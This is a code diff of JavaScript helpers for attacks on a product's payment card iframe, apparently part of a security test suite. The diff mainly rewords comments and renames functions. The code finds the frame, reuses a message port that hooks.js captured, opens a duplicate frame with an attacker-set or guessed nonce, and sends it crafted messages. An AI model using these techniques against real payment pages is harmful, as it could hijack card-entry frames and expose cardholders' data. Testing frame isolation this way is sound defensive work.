@@ -1,4 +1,4 @@
-// Finds, opens and messages the card frame.
+// Helpers of the attacks on the card frame, the product's iframe for card data: find it, open it, and send it messages.
 
 const { ports, send } = window.attacker;
 const frameSource = 'sub-card-frame';
@@ -12,8 +12,8 @@ function findAll(selector, root = document) {
   return [...root.querySelectorAll(selector), ...inside];
 }
 
-/** The iframe of the product's card form. */
-export const cardFrame = () => {
+/** Finds the iframe of the product's card form. Throws if there is none yet. */
+export const findCardFrame = () => {
   const frame = findAll('iframe').find(({ src }) => src.includes('/card-frame.html'));
   if (!frame) throw new Error('The card form isn’t visible yet');
   return frame;
@@ -21,7 +21,10 @@ export const cardFrame = () => {
 
 let lastId = 900_000;
 
-/** Sends a request to the frame over the product's stolen port. */
+/**
+ * Sends a request to the card frame and resolves with the response. The default port is the product's latest one, which
+ * hooks.js recorded.
+ */
 export function sendRequest(message, port = ports.at(-1)) {
   lastId += 1;
   const id = lastId;
@@ -37,7 +40,7 @@ export function sendRequest(message, port = ports.at(-1)) {
   });
 }
 
-/** Waits for the frame's first message to its parent window. */
+/** Waits for the card frame's first message to its parent window. */
 const waitUntilReady = (frame, parentWindow) =>
   new Promise((done) => {
     const listen = ({ source, data }) => {
@@ -49,13 +52,14 @@ const waitUntilReady = (frame, parentWindow) =>
   });
 
 /**
- * Opens the genuine frame without the product's script and connects to it. Returns the frame, its port and the messages
- * received from it.
- * @param {object} [options] `message` and `config` override parts of the connect message; with `guessedNonce`, connects
- * with that nonce first
+ * Opens another instance of the product's card frame, without the product's script, and connects to it. Returns the
+ * iframe, the port and the messages received over the port.
+ * @param {object} [options] `message` and `config` override parts of the connect message. With `guessedNonce`, connects
+ * with that nonce first; `guessedConnection` is then the port and the messages of this attempt. `parent` is the element
+ * that the iframe is appended to.
  */
 export async function openFrame({ message = {}, config = {}, guessedNonce, parent = document.body } = {}) {
-  const frameUrl = new URL(cardFrame().src);
+  const frameUrl = new URL(findCardFrame().src);
   const parameters = new URLSearchParams(frameUrl.hash.slice(1));
   parameters.set('nonce', 'of-the-attacker');
   frameUrl.hash = parameters.toString();
@@ -73,7 +77,7 @@ export async function openFrame({ message = {}, config = {}, guessedNonce, paren
     const { port1, port2 } = new MessageChannel();
     const responses = [];
     port1.onmessage = ({ data }) => responses.push(data);
-    const defaults = connectMessage(nonce);
+    const defaults = createConnectMessage(nonce);
     frame.contentWindow.postMessage({ ...defaults, ...message, config: { ...defaults.config, ...config } }, '*', [
       port2,
     ]);
@@ -84,7 +88,7 @@ export async function openFrame({ message = {}, config = {}, guessedNonce, paren
   return { frame, guessedConnection, ...connect('of-the-attacker') };
 }
 
-export const connectMessage = (nonce) => ({
+export const createConnectMessage = (nonce) => ({
   source: 'sub-elements',
   version,
   type: 'connect',
@@ -94,7 +98,7 @@ export const connectMessage = (nonce) => ({
   config: { language: 'en', tokens: {}, acceptedSchemes: [], savedScheme: '', scene: 'WEB', theme: 'auto' },
 });
 
-/** Returns the largest height that a frame has requested. */
+/** Returns the largest height, in px, that a card frame has requested. */
 export async function readLargestHeight({ port, responses }) {
   await sendRequest({ type: 'validate' }, port);
   return Math.max(0, ...responses.filter(({ type }) => type === 'resize').map(({ height }) => height));
